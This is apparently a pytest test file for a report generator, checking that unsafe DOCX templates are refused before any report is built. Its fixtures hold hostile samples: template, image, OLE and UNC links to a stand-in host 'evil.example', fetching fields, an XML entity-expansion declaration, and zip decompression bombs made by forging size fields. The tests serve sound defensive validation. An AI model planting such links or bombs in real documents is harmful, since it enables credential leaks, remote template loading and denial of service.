"""DOCX templates that must not be copied into every report (issue 18): macros, external links,
fetching fields, decompression bombs. Each is refused by ``reportgen build --docx-template`` with
a located message before any file is written; the bombs are refused from the zip's declared sizes
before anything is decompressed (a child process measures its own peak memory)."""

from __future__ import annotations

import io
import json
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from docx import Document

from reportgen.render import docx_package

from .conftest import REPO

DOCM = b"application/vnd.ms-word.document.macroEnabled.main+xml"
DOTM = b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
DOCX_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def base_docx() -> dict[str, bytes]:
    buf = io.BytesIO()
    Document().save(buf)
    with zipfile.ZipFile(buf) as z:
        return {n: z.read(n) for n in z.namelist()}


def write_docx(path: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def add_rel(parts: dict[str, bytes], rels: str, kind: str, target: str) -> None:
    rel = (f'<Relationship Id="rIdX{len(parts)}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
           f'relationships/{kind}" Target="{target}" TargetMode="External"/>').encode()
    data = parts.get(rels, b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
                     b'"http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
    parts[rels] = data.replace(b"</Relationships>", rel + b"</Relationships>")


def build(cli, project: Path, name: str):  # type: ignore[no-untyped-def]
    run = cli("build", "--format", "docx", "--lang", "en", "--docx-template", name, cwd=project)
    assert not (project / "build").exists()
    return run


def test_a_plain_template_passes(tmp_path):
    docx_package.check_package(write_docx(tmp_path / "t.docx", base_docx()))


@pytest.mark.parametrize("case, message", [
    ("vba", "contains macros (word/vbaProject.bin); reportgen does not copy macros into reports: save the "
            "template as a Word document (.docx) without them"),
    ("docm", "a macro-enabled Word document (.docm): save it as a Word document (.docx), without macros"),
    ("dotm", "a macro-enabled Word template (.dotm): save it as a Word document (.docx), without macros"),
])
def test_macros_are_refused(default_project, cli, case, message):
    parts = base_docx()
    if case == "vba":
        parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"
    else:
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(DOCX_MAIN, DOCM if case == "docm" else DOTM)
    name = f"house.{'docx' if case == 'vba' else case}"
    write_docx(default_project / name, parts)
    run = build(cli, default_project, name)
    assert (run.code, run.err_lines) == (1, [f"{name}: error: {message}"])


def test_external_relationships_and_fetching_fields_are_refused(default_project, cli):
    parts = base_docx()
    add_rel(parts, "word/_rels/settings.xml.rels", "attachedTemplate", "http://evil.example/t.dotm")
    add_rel(parts, "word/_rels/document.xml.rels", "image", "file://///evil.example/share/logo.png")
    add_rel(parts, "word/_rels/document.xml.rels", "oleObject", "\\\\evil.example\\share\\x.xlsx")
    add_rel(parts, "word/_rels/document.xml.rels", "hyperlink", "https://evil.example/")
    field = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE'
             '</w:instrText></w:r><w:r><w:instrText>PICTURE "\\\\evil\\x.png" \\d </w:instrText></w:r>'
             '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:fldSimple w:instr=" INCLUDETEXT x.docx "/>'
             '<w:fldSimple w:instr=" HYPERLINK \\l top "/>')
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body><w:p>" + field.encode()
                                                                    + b"</w:p>")
    write_docx(default_project / "house.docx", parts)
    run = build(cli, default_project, "house.docx")
    assert run.code == 1 and len(run.err_lines) == 1
    line = run.err_lines[0]
    assert line.startswith("house.docx: error: links to content outside the file, which Word may fetch")
    for found in ("word/settings.xml: attachedTemplate -> 'http://evil.example/t.dotm'",
                  "word/document.xml: image -> 'file://///evil.example/share/logo.png'",
                  "word/document.xml: oleObject -> ", "word/document.xml: hyperlink -> 'https://evil.example/'",
                  "word/document.xml: field INCLUDEPICTURE", "word/document.xml: field INCLUDETEXT"):
        assert found in line
    assert "HYPERLINK" not in line  # an internal link is no fetch


def test_a_document_type_declaration_is_refused(default_project, cli):
    parts = base_docx()
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(
        b"?>", b'?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>', 1)
    write_docx(default_project / "house.docx", parts)
    run = build(cli, default_project, "house.docx")
    assert run.err_lines == ["house.docx: error: word/styles.xml declares a document type (Word never writes one)"]


def _lie_about_size(path: Path, name: str, size: int) -> None:
    """Make the zip's directory declare ``size`` bytes for ``name`` (the data stays small)."""
    data = bytearray(path.read_bytes())
    encoded = name.encode()
    for sig, size_at, name_at in ((b"PK\x01\x02", 24, 46), (b"PK\x03\x04", 22, 30)):
        at = 0
        while (at := data.find(sig, at)) >= 0:
            if data[at + name_at: at + name_at + len(encoded)] == encoded:
                data[at + size_at: at + size_at + 4] = struct.pack("<I", size)
            at += 4
    path.write_bytes(bytes(data))


def _honest_bomb(path: Path, name: str, megabytes: int) -> None:
    parts = base_docx()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for part, data in parts.items():
            if part != name:
                z.writestr(part, data)
        with z.open(name, "w") as f:
            f.write(b'<?xml version="1.0"?><w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
                    b'2006/main">')
            for _ in range(megabytes):
                f.write(b" " * (1 << 20))
            f.write(b"</w:styles>")


CHILD = """
import json, resource, sys, time
from pathlib import Path
from reportgen.cli import main
t = time.perf_counter()
code = main(["build", "--format", "docx", "--lang", "en", "--docx-template", sys.argv[1], "-q"])
print(json.dumps({"code": code, "seconds": time.perf_counter() - t,
                  "peak_mb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024}))
"""


@pytest.mark.parametrize("bomb, message", [
    ("styles", "word/styles.xml unpacks to 199,"),
    ("content-types", "[Content_Types].xml unpacks to 4,294,967,295 bytes"),
    ("image", "word/media/image1.png unpacks to 3,221,225,472 bytes"),
    ("ratio", "word/media/image1.png unpacks 1,0"),
])
def test_decompression_bombs_are_refused_before_decompressing(default_project, bomb, message):
    path = default_project / "bomb.docx"
    if bomb == "styles":  # a real one: 200 MB of XML packed into 0.2 MB
        _honest_bomb(path, "word/styles.xml", 190)
    else:
        parts = base_docx()
        parts["word/media/image1.png"] = b"\x89PNG" + bytes(2 << 20)  # 2 MB that packs 1,000-fold
        write_docx(path, parts)
        if bomb != "ratio":
            _lie_about_size(path, "[Content_Types].xml" if bomb == "content-types" else "word/media/image1.png",
                            0xFFFFFFFF if bomb == "content-types" else 3 << 30)
    child = subprocess.run([sys.executable, "-c", CHILD, "bomb.docx"], cwd=default_project, capture_output=True,
                           text=True, timeout=60, env={"PYTHONPATH": str(REPO), "SOURCE_DATE_EPOCH": "1705593600"})
    result = json.loads(child.stdout.splitlines()[-1])
    assert result["code"] == 1, child.stderr
    assert child.stderr.startswith(f"bomb.docx: error: {message}") and "decompression bomb" in child.stderr
    assert result["peak_mb"] < 200  # the whole build process, Python and the libraries included
    assert not (default_project / "build").exists()


def test_too_many_parts_is_refused_from_the_end_record(tmp_path):
    path = tmp_path / "many.docx"
    with zipfile.ZipFile(path, "w") as z:
        for n in range(docx_package.MAX_ENTRIES + 1):
            z.writestr(f"p{n}", b"")
    with pytest.raises(docx_package.UnsafeTemplate, match="too many parts for a template \\(1,001"):
        docx_package.check_package(path)
